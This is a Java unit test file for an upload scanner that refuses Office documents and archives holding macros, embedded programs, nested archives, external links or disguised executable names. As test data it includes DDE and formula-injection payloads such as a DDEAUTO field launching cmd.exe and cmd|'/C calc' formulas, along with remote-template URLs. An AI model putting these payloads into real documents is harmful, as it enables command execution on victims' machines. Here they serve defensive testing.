package org.greenplan.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.greenplan.file.ExampleFiles.PDF;
import static org.greenplan.file.ExampleFiles.ascii;
import static org.greenplan.file.ExampleFiles.compiled;
import static org.greenplan.file.ExampleFiles.docx;
import static org.greenplan.file.ExampleFiles.embedding;
import static org.greenplan.file.ExampleFiles.macros;
import static org.greenplan.file.ExampleFiles.ole;
import static org.greenplan.file.ExampleFiles.pointing;
import static org.greenplan.file.ExampleFiles.slides;
import static org.greenplan.file.ExampleFiles.text;
import static org.greenplan.file.ExampleFiles.zip;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.greenplan.task.RuleViolation;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What lies in an archive or a document: what is good passes, what is not is named. */
class InsideFilesTest {

    private static final String ATTRIBUTES = "Attribute VB_Name = \"Sheet1\"\r\nAttribute VB_Exposed = True\r\n";
    private static final String MACRO = "Sub Run()\r\nAttribute Run.VB_Description = \"x\"\r\nEnd Sub\r\n";

    private final FileDetector detector = new FileDetector();

    @TempDir
    private Path directory;

    private static String field(String... instructions) {
        StringBuilder runs = new StringBuilder("<w:r><w:fldChar w:fldCharType='begin'/></w:r>");
        for (String instruction : instructions) {
            runs.append("<w:r><w:instrText>").append(instruction).append("</w:instrText></w:r>");
        }
        return runs + "<w:r><w:fldChar w:fldCharType='separate'/><w:t>x</w:t><w:fldChar w:fldCharType='end'/></w:r>";
    }

    private static byte[] letter(String body) {
        return docx("word/document.xml", "<w:document xmlns:w='w'><w:body>" + body + "</w:body></w:document>");
    }

    private static byte[] workbook(String formula) {
        return xlsx("xl/worksheets/sheet1.xml", "<worksheet><c><f>" + formula + "</f><v>1</v></c></worksheet>");
    }

    private static byte[] xlsx(String... entries) {
        return ExampleFiles.office(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", entries);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                " PAGE ",
                "TOC \\o \"1-3\" \\h",
                "DATE \\@ \"yyyy-MM-dd\"",
                "MERGEFIELD name",
                "HYPERLINK \"https://www.bjhr.gov.cn/\"",
                "INCLUDEPICTURE \"C:\\\\Users\\\\a\\\\wps1.png\" \\* MERGEFORMATINET",
                "INCLUDEPICTURE \\d \"file:///C:\\\\a.png\" \\* MERGEFORMAT"
            })
    @DisplayName("寻常的域不误拒")
    void ordinaryFields_pass(String instruction) throws IOException {
        assertThat(check("a.docx", letter(field(instruction)))).isNotEmpty();
        assertThat(check("a.docx", letter("<w:fldSimple w:instr='" + instruction.replace("'", "") + "'/>")))
                .isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"",
                " dde Excel a.xlsx",
                "INCLUDEPICTURE \"http://example.org/1.png\" \\d",
                "INCLUDETEXT \"\\\\\\\\host\\\\share\\\\a.docx\"",
                "IMPORT //host/share/a.png",
                "LINK Word.Document.8 \"https://example.org/a.doc\" \\a",
                "INCLUDEPICTURE file://host/share/1.png"
            })
    @DisplayName("打开时会读取外部内容或启动程序的域")
    void fieldsThatLeadOutside_areRefused(String instruction) {
        String first = instruction.substring(0, 3);
        String code = "evidence-loads-from-outside";
        assertRefused("a.docx", letter(field(first, instruction.substring(3))), code, "请断开链接");
        assertRefused("a.docx", letter("<w:fldSimple w:instr='" + instruction + "'/>"), code, "请断开链接");
        assertRefused(
                "a.docx",
                docx("word/header1.bin", "<?xml version='1.0'?><w:hdr xmlns:w='w'>" + field(instruction) + "</w:hdr>"),
                code,
                "请断开链接");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM(A1:B2)",
                "'甲|乙'!A1+Table1[a|b]",
                "IF(A1=\"cmd|x\",\"WEBSERVICE(\",2)",
                "_xlfn.DISPIMG(\"ID_1\",1)",
                "HYPERLINK(\"https://www.bjhr.gov.cn/\",\"官网\")",
                "[1]Sheet1!A1"
            })
    @DisplayName("寻常的公式不误拒")
    void ordinaryFormulas_pass(String formula) throws IOException {
        assertThat(check("a.xlsx", workbook(formula))).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)",
                "cmd|'/C calc'!A0",
                "1+'cmd'|'/C calc'!A0",
                "_xlfn.IMAGE(\"http://example.org/1.png\")",
                "RTD(\"a\",,\"b\")"
            })
    @DisplayName("打开时会读取外部内容或启动程序的公式")
    void formulasThatLeadOutside_areRefused(String formula) {
        assertRefused("a.xlsx", workbook(formula), "evidence-loads-from-outside", "打开时会");
        String name =
                "<workbook><definedNames><definedName name='a'>" + formula + "</definedName></definedNames></workbook>";
        assertRefused("a.xlsx", xlsx("xl/workbook.xml", name), "evidence-loads-from-outside", "打开时会");
    }

    @ParameterizedTest
    @CsvSource({"ddeLink, DDE", "oleLink, 对象"})
    @DisplayName("与其他程序的链接；另一个工作簿留下的数值可以")
    void linksToPrograms_areRefused(String link, String words) throws IOException {
        String part = "xl/externalLinks/externalLink1.xml";
        assertRefused(
                "a.xlsx",
                xlsx(part, "<externalLink><" + link + "/></externalLink>"),
                "evidence-loads-from-outside",
                words);
        assertThat(check("a.xlsx", xlsx(part, "<externalLink><externalBook/></externalLink>")))
                .isNotEmpty();
    }

    @Test
    @DisplayName("解开后过大，无论里面是什么")
    void whatUnfoldsWithoutEnd_isRefused() throws IOException {
        String much = "a".repeat(11 * 1024 * 1024);
        assertRefused("a.zip", zip("a.txt", much), "evidence-unpacks-too-large", "100倍");
        assertRefused("a.docx", docx("word/media/a.bmp", much), "evidence-unpacks-too-large", "100倍");
        assertThat(check("a.zip", zip("a.txt", "a".repeat(9 * 1024 * 1024)))).isNotEmpty();

        Inspection inspection = new Inspection(detector);
        inspection.unfolds(500L * 1024 * 1024);
        assertThat(catchThrowableOfType(RuleViolation.class, () -> inspection.unfolds(1)))
                .hasMessageContaining("超过500MB");
    }

    static Stream<Arguments> good() {
        return Stream.of(
                Arguments.of("a.xls", macros("Workbook", "_VBA_PROJECT_CUR", "Sheet1", ATTRIBUTES, "模块1", ATTRIBUTES)),
                Arguments.of("a.doc", macros("WordDocument", "Macros", "ThisDocument", ATTRIBUTES + "\r\n\r\n")),
                Arguments.of(
                        "a.xls",
                        macros(
                                "Workbook",
                                "_VBA_PROJECT_CUR",
                                "Sheet1",
                                ATTRIBUTES + "Option Explicit\r\n' 空\r\nRem x")),
                // one blank line, compiled
                Arguments.of(
                        "a.xls",
                        compiled(
                                ascii("\0\u00fe\u00ca\1\0\1\0\0\0\0\0\0\0\0\0\u00ff\u00ff\0\0"), "Sheet1", ATTRIBUTES)),
                Arguments.of("cleaned.xls", ExampleFiles.macroSheet(false)),
                Arguments.of("a.ppt", slides(ole("Workbook"))),
                Arguments.of("a.ppt", slides(macros("Workbook", "_VBA_PROJECT_CUR", "Sheet1", ATTRIBUTES))),
                Arguments.of("a.doc", embedding("fujian.pdf", PDF)),
                Arguments.of("a.docx", pointing("hyperlink", "https://www.bjhr.gov.cn/")),
                Arguments.of("a.docx", pointing("attachedTemplate", "file:///C:\\Users\\a\\Templates\\gongwen.dotx")),
                Arguments.of("a.docx", docx("word/embeddings/oleObject1.bin", text(ole("Workbook")))),
                Arguments.of("a.docx", docx("word/embeddings/a.docx", text(docx()))),
                Arguments.of(
                        "a.docx",
                        docx("word/media/image1.emz", text(new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 0}))),
                Arguments.of("a.zip", zip("材料/报告.pdf", text(PDF), "材料/", "", "说明.TXT", "x", ".DS_Store", "x")),
                Arguments.of("a.zip", zip("__MACOSX/._报告.pdf", "x", "报告.pdf.", text(PDF), "报告.pdf ", text(PDF))),
                Arguments.of("a.zip", zip("报告.docx", text(docx()), "旧.doc", text(ole("WordDocument")))),
                Arguments.of("gbk.zip", zip(Charset.forName("GBK"), "照片.jpg", "x")),
                Arguments.of("a.heic", ascii("\0\0\0\u0018ftypmsf1\0\0\0\0mif1heic")),
                Arguments.of("a.heic", ascii("\0\0\0\u0018ftyphevc\0\0\0\0mif1heic")),
                Arguments.of("a.mp4", ascii("\0\0\0\u0018ftypXAVC\0\0\0\0isommp42")),
                Arguments.of("a.mp4", ascii("\0\0\0\u0018ftyp3gp4\0\0\0\0isommp42")),
                Arguments.of("a.tif", ascii("II+\0\10\0\0\0\0\0\0\0\0\0\0\0")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("good")
    @DisplayName("好的文件不误拒")
    void whatIsGood_passes(String name, byte[] content) throws IOException {
        assertThat(check(name, content)).isNotEmpty();
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                Arguments.of(
                        "a.xls",
                        macros("Workbook", "_VBA_PROJECT_CUR", "模块1", ATTRIBUTES + MACRO),
                        "evidence-macros",
                        "含有宏"),
                Arguments.of(
                        "mac.xls",
                        macros("Workbook", "_VBA_PROJECT_CUR", "Module1", (ATTRIBUTES + MACRO).replace("\r\n", "\r")),
                        "evidence-macros",
                        "含有宏"),
                // its source was taken away, two compiled lines were left
                Arguments.of(
                        "stripped.xls",
                        compiled(
                                ascii("\0\u00fe\u00ca\1\0\2\0\0\0\0\0\6\0\0\0\0\0\0\0\0\0\0\0\6\0\0\0\0\0\0\0"),
                                "Sheet1",
                                ATTRIBUTES),
                        "evidence-macros",
                        "含有宏"),
                Arguments.of("excel4.xls", ExampleFiles.macroSheet(true), "evidence-macros", "含有宏"),
                Arguments.of("a.ppt", slides(macros("PROJECT", "Macros", "Module1", MACRO)), "evidence-macros", "含有宏"),
                Arguments.of("a.doc", embedding("setup.exe ", PDF), "evidence-program-inside", "“setup.exe”是程序"),
                Arguments.of("a.doc", embedding("a.iso", PDF), "evidence-archive-inside", "“a.iso”"),
                Arguments.of(
                        "a.docx",
                        pointing("attachedTemplate", "http://example.org/t.dotm"),
                        "evidence-loads-from-outside",
                        "模板"),
                Arguments.of(
                        "a.docx",
                        pointing("attachedTemplate", "\\\\host\\share\\t.dotm"),
                        "evidence-loads-from-outside",
                        "模板（\\\\host"),
                Arguments.of("a.docx", pointing("oleObject", "file:///C:/a.xlsx"), "evidence-loads-from-outside", "对象"),
                Arguments.of(
                        "a.docx", pointing("image", "http://example.org/1.png"), "evidence-loads-from-outside", "图片"),
                Arguments.of(
                        "a.docx", pointing("frame", "http://example.org/"), "evidence-loads-from-outside", "外部的内容"),
                Arguments.of(
                        "a.docx",
                        docx("word/embeddings/a.bin", text(macros("Workbook", "_VBA_PROJECT_CUR", "M", MACRO))),
                        "evidence-macros",
                        "里面的“a.bin”：文件含有宏"),
                Arguments.of(
                        "a.docx",
                        docx("word/embeddings/a.docx", text(zip("a.pdf", "x"))),
                        "evidence-archive-inside",
                        "a.docx"),
                Arguments.of(
                        "a.zip",
                        zip("报告.docx", text(pointing("attachedTemplate", "http://example.org/t.dotm"))),
                        "evidence-loads-from-outside",
                        "里面的“报告.docx”：文件打开时会加载外部的模板"),
                Arguments.of(
                        "gbk.zip",
                        zip(Charset.forName("GBK"), "附件/安装.exe", "x"),
                        "evidence-program-inside",
                        "“安装.exe”"),
                Arguments.of("a.zip", zip("a.pdf", text(zip("b.pdf", "x"))), "evidence-archive-inside", "“a.pdf”"),
                Arguments.of("a.zip", zip("a.docx", text(zip("b.pdf", "x"))), "evidence-archive-inside", "“a.docx”"),
                Arguments.of(
                        "a.zip", zip("a.jpg", "Rar!\u001a\u0007\u0000xxxx"), "evidence-archive-inside", "“a.jpg”"));
    }

    @ParameterizedTest(name = "{0}: {2} {3}")
    @MethodSource("refused")
    void whatIsNot_isRefusedByWhatItIs(String name, byte[] content, String code, String words) {
        assertRefused(name, content, code, words);
    }

    @ParameterizedTest(name = "“{0}”")
    @ValueSource(
            strings = {
                "evil.exe",
                "evil.exe ",
                "evil.exe.",
                "evil.exe. .",
                "a\n.exe",
                "a.e\nxe",
                "a.EXE\u3000",
                "报告.pdf.exe",
                "x.pdf\u202e.scr",
                "dir\\run.bat",
                "a.reg",
                "a.vbs\u00a0"
            })
    @DisplayName("程序，按解压后的名字看")
    void programsByTheirNames_areRefused(String name) {
        assertRefused("a.zip", zip(name, "x"), "evidence-program-inside", "程序");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a.url",
                "a.chm",
                "a.html",
                "a.svg",
                "a.docm",
                "a.xyz",
                "README",
                "a.desktop",
                "a.pdf\u0000.p",
                "a.swf"
            })
    @DisplayName("只收列出的种类")
    void kindsThatAreNotListed_areRefused(String name) {
        assertRefused("a.zip", zip(name, "x"), "evidence-type-inside", "不是可以接收的种类");
    }

    @ParameterizedTest
    @CsvSource({"a.zip", "a.rar", "a.7z", "a.tar.gz", "a.iso", "'a.zip '", "a.IMG."})
    @DisplayName("压缩包里的压缩包")
    void archivesInside_areRefused(String name) {
        assertRefused("a.zip", zip(name, "x"), "evidence-archive-inside", "解开后再一起打包");
    }

    @ParameterizedTest
    @ValueSource(strings = {"evil.exe ", "evil.exe.", "a\n.exe", "a.url", "a.iso", "a.reg"})
    @DisplayName("单独上传的也按同样的名字看")
    void uploadsByTheirNames_areRefused(String name) {
        RuleViolation refused = catchThrowableOfType(RuleViolation.class, () -> check(name, PDF));

        assertThat(refused).isNotNull();
        assertThat(refused.code()).isIn("evidence-type-refused", "evidence-extension-missing");
    }

    @ParameterizedTest
    @ValueSource(ints = {2, 3})
    @DisplayName("嵌套的文档只看到第三层")
    void documentsInDocuments_areLookedAtToADepth(int levels) throws IOException {
        byte[] content = docx();
        for (int i = 0; i < levels; i++) {
            content = docx("word/embeddings/a.docx", text(content));
        }
        assertThat(check("a.docx", content)).isNotEmpty();
        byte[] deeper = docx("word/embeddings/a.docx", text(docx("word/embeddings/a.docx", text(content))));
        assertRefused("a.docx", deeper, "evidence-too-deep", "层数过多");
    }

    private void assertRefused(String name, byte[] content, String code, String words) {
        RuleViolation refused = catchThrowableOfType(RuleViolation.class, () -> check(name, content));
        assertThat(refused).as("refusal as %s", code).isNotNull();
        assertThat(refused.code()).as(refused.getMessage()).isEqualTo(code);
        assertThat(refused.getMessage()).contains(words).endsWith("。");
    }

    private String check(String name, byte[] content) throws IOException {
        Path file = Files.write(directory.resolve("content"), content);
        return detector.requireAccepted(file, FileName.clean(name));
    }
}
